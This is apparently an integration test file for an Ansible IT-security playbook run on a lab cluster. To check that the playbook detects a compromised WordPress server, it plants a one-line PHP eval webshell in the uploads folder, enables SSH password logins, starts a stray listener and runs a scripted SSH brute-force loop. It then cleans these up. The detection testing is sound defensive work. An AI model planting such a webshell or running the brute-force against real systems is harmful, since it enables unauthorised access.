"""SOP Pengamanan TI against the lab court (`sop-lab up`, provisioned with lab_security),
over SSH with become: the SSH journal audit (lines read per second on each host), check
mode, the problems of a compromised web server named in the failure (a new listener,
password logins, an SSH brute force, a webshell in WordPress's uploads). The clean court
passes whole once the server SOP has installed the planted updates, with the restore
drill's times in its record: tests/integration/test_server_lab.py. The outside view (nmap
from the gateway) and the damaged backup are proven in molecule `it_security`: the lab
court has no public address."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from ansible_json import failures, result

ROOT = Path(__file__).resolve().parents[2]
pytestmark = [pytest.mark.lab]
COURT = ("sipp", "web", "backup", "gw")
UPLOADS = "/var/lib/wordpress/wp-content/uploads"  # Debian's WordPress, behind a symlink
WEBSHELL = f"{UPLOADS}/thumb.php"
WEBSHELL_CODE = "<?php @eval(base64_decode($_POST['k'])); ?>\n"
# Twelve wrong passwords for a user web does not have, from the backup computer.
BRUTE_FORCE = (
    "printf '#!/bin/sh\\necho salah-password\\n' > /root/wrong-password && "
    "chmod 700 /root/wrong-password && for i in $(seq 12); do "
    "SSH_ASKPASS=/root/wrong-password SSH_ASKPASS_REQUIRE=force setsid ssh -n "
    "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
    "-o PreferredAuthentications=password -o PubkeyAuthentication=no "
    "-o NumberOfPasswordPrompts=1 penyerang@web true || true; done"
)


def env() -> dict[str, str]:
    return dict(os.environ, ANSIBLE_STDOUT_CALLBACK="ansible.posix.json",
                ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"))


def play(*args: str) -> tuple[int, dict[str, Any]]:
    proc = subprocess.run([str(ROOT / ".venv/bin/ansible-playbook"), "playbooks/it_security.yml",
                           *args], cwd=ROOT, env=env(), capture_output=True, text=True,
                          timeout=600, check=False)
    return proc.returncode, json.loads(proc.stdout)


def adhoc(host: str, args: str, module: str = "ansible.builtin.command") -> None:
    subprocess.run([str(ROOT / ".venv/bin/ansible"), host, "-b", "-m", module, "-a", args],
                   cwd=ROOT, env=dict(env(), ANSIBLE_STDOUT_CALLBACK="default"),
                   capture_output=True, text=True, timeout=180, check=True)


def test_ssh_audit_reads_the_journal_of_every_host():
    rc, report = play("--tags", "pola_akses", "-e", "it_security_fail_on_findings=false")
    assert rc == 0, failures(report)
    for host in COURT:
        ssh = result(report, "Read SSH logins from the journal since the previous run", host)["ssh"]
        print(f"{host}: {ssh['lines_read']} lines, {ssh['lines_per_second']} lines/s")
        assert ssh["lines_per_second"] > 0 or ssh["lines_read"] == 0


@pytest.mark.usefixtures("sipp_backup_made", "website_backup_made")  # a clean court has them
def test_check_mode_changes_nothing():
    rc, report = play("--check", "-e", "it_security_fail_on_findings=false")
    assert rc == 0, failures(report)
    assert report["stats"] and all(s["changed"] == 0 for s in report["stats"].values())


def test_a_compromised_web_server_is_named():
    try:
        adhoc("web", "systemd-run --unit=itsec-planted-http python3 -m http.server 8999")
        adhoc("web", json.dumps({"dest": "/etc/ssh/sshd_config.d/40-planted.conf",
                                 "content": "PasswordAuthentication yes\n"}),
              "ansible.builtin.copy")
        adhoc("web", "systemctl reload ssh")
        adhoc("web", json.dumps({"dest": WEBSHELL, "content": WEBSHELL_CODE}),
              "ansible.builtin.copy")
        adhoc("backup", BRUTE_FORCE, "ansible.builtin.shell")
        # Each wrong password costs sshd's PAM delay: the twelve take longer than a minute
        # on a busy machine.
        rc, report = play("--tags", "pola_akses,peringatan_dini,malware", "--limit", "web",
                          "-e", "it_security_ssh_burst_seconds=300")
    finally:
        adhoc("web", "systemctl stop --quiet itsec-planted-http || true",
              "ansible.builtin.shell")
        adhoc("web", f"rm -f /etc/ssh/sshd_config.d/40-planted.conf {WEBSHELL}")
        adhoc("web", "systemctl reload ssh")
    assert rc == 2
    failed = result(report, "Failed activities", "web")["msg"]
    print(failed)
    assert "tcp/8999 (python3)" in failed
    assert "Serangan brute-force SSH dari" in failed
    assert "Kegiatan 10 (D.1): SSH menerima login dengan password" in failed
    assert "Kegiatan 14 (D.5):" in failed and "thumb.php" in failed


def test_wordpress_hardening_of_the_real_site_is_named():
    """Debian's WordPress as the lab installs it: xmlrpc.php and the login names open, as a
    fresh installation has them; a wp-config copy and a debug log planted where it serves
    them (Debian's wp-content lives in /var/lib/wordpress) are named too."""
    copy, log = "/usr/share/wordpress/wp-config.php.bak", "/var/lib/wordpress/wp-content/debug.log"
    try:
        adhoc("web", f"cp /usr/share/wordpress/wp-config.php {copy}")
        adhoc("web", json.dumps({"dest": log, "content": "PHP Notice: lab\n"}),
              "ansible.builtin.copy")
        rc, report = play("--tags", "celah_keamanan", "--limit", "web",
                          "-e", "it_security_wordpress_url=https://web/",
                          "-e", "it_security_wordpress_validate_certs=false",
                          "-e", "it_security_fail_on_findings=false")
    finally:
        adhoc("web", f"rm -f {copy} {log}")
    assert rc == 0, failures(report)
    task = "Read WordPress core and plugin versions against those available, and its hardening"
    found = result(report, task, "web")["findings"]
    print(json.dumps(found, indent=1))
    messages = {f["kind"]: [] for f in found}
    for item in found:
        messages[item["kind"]].append(item["message"])
    assert any("xmlrpc.php situs https://web/ terbuka" in m for m in messages["wordpress_xmlrpc"])
    assert any("?author=1 dialihkan ke /author/admin/" in m for m in messages["wordpress_users"])
    assert any("REST API (wp/v2/users): admin" in m for m in messages["wordpress_users"])
    assert sorted(m.split()[3] for m in messages["wordpress_exposed"]) == [copy, log]
